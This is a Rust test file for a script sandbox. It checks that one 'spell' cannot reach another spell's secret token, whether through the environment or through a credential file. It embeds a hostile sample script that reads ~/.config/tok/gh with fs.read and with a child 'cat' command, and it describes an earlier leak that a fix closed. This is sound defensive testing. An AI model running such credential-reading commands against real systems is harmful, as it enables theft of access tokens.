fn another_spells_secret_source_reaches_no_child() {
    let config = "sandbox:\n  enabled: true\n  network: deny\n  env:\n    passthrough: [\"GH_*\"]\nspells:\n  probe:\n    network: {hosts: [\"localhost:9\"]}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {env: GH_TOKEN}\n        hosts: [\"localhost:9\"]\n      - name: OTHER_TOKEN\n        from: {env: MAGUS_TEST_TOKEN}\n        hosts: [\"localhost:9\"]\n";
    for user in users() {
        let h = harness(config, "true\n");
        h.write_spell("thief", THIEF);
        open_to_everyone(&h.root);
        let run = |sandbox: &str| {
            let mut cmd = magus_as(&h, user);
            cmd.env("GH_TOKEN", VALUE)
                .env("MAGUS_TEST_TOKEN", VALUE)
                .env("GH_REPO", "alice/tool")
                .env("MAGUS_SANDBOX_ENABLED", sandbox)
                .arg("--workspace")
                .arg(&h.ws)
                .args(["run", "thief"]);
            capture(&mut cmd)
        };
        let control = run("0");
        assert_eq!(
            control.stdout.matches(VALUE).count(),
            4,
            "{user:?} control: {}",
            control.dump()
        );
        let out = run("1");
        assert!(out.stdout.contains("CHILD-RAN"), "{user:?}: {}", out.dump());
        assert!(
            out.stdout.contains("ENV.GET null null"),
            "{user:?}: {}",
            out.dump()
        );
        assert!(
            out.stdout.contains("GH_REPO=alice/tool"),
            "{user:?}: {}",
            out.dump()
        );
        assert_value_nowhere(&h, &out, user);
    }
}

/// Reads another spell's secret file: with the spell and through a child.
const FILE_THIEF: &str = "import \"std\";\nimport \"fs\";\nimport \"env\";\nimport \"sh\";\nfun main(args: [str]) > int {\n    final path = \"{env.get(\"HOME\") ?? \"\"}/.config/tok/gh\";\n    try {\n        std.print(\"FS.READ {fs.read(path)}\");\n    } catch (e: SandboxError) {\n        std.print(\"REFUSED {e.code}\");\n    } catch (e: FileSystemError) {\n        std.print(\"FAILED {e.message}\");\n    }\n    return sh.run([\"/bin/sh\", \"-c\", \"cat ~/.config/tok/gh; echo CHILD-RAN\"]);\n}\n";

/// Another spell's token, from the file its secret is read from: `probe`
/// reads its secret from `~/.config/tok/gh`, and `thief`'s own section
/// grants `~/.config` read-only (a tool's settings). Before the fix
/// `magus run thief` read the token, with `fs.read` and with `cat`: only
/// `probe`'s own view was checked for it. Now another spell's secret file
/// inside a grant that does not name it is hidden, as a credential store
/// is. The control, the sandbox off, reads it both ways.
#[test]
fn another_spells_secret_file_is_hidden() {
    for user in users() {
        let h = harness("sandbox: {enabled: true}\n", "true\n");
        let file = h.home_path(".config/tok/gh");
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        std::fs::write(&file, format!("{VALUE}\n")).unwrap();
        let config = format!(
            "sandbox:\n  enabled: true\n  network: deny\nspells:\n  probe:\n    network: {{hosts: [\"localhost:9\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{file: {}}}\n        hosts: [\"localhost:9\"]\n  thief:\n    allow:\n      - path: ~/.config\n        mode: ro\n",
            file.display()
        );
        std::fs::write(h.ws_path("magus.yaml"), config).unwrap();
        h.write_spell("thief", FILE_THIEF);
        open_to_everyone(&h.root);
        let run = |sandbox: &str| {
            let mut cmd = magus_as(&h, user);
            cmd.env("MAGUS_SANDBOX_ENABLED", sandbox)
                .arg("--workspace")
                .arg(&h.ws)
                .args(["run", "thief"]);
            capture(&mut cmd)
        };
        let control = run("0");
        assert_eq!(
            control.stdout.matches(VALUE).count(),
            2,
            "{user:?} control: {}",
            control.dump()
        );
        let out = run("1");
        assert!(out.stdout.contains("CHILD-RAN"), "{user:?}: {}", out.dump());
        assert!(
            out.stdout.contains("REFUSED MGS2001"),
            "{user:?}: {}",
            out.dump()
        );
        assert_value_nowhere(&h, &out, user);
    }
}
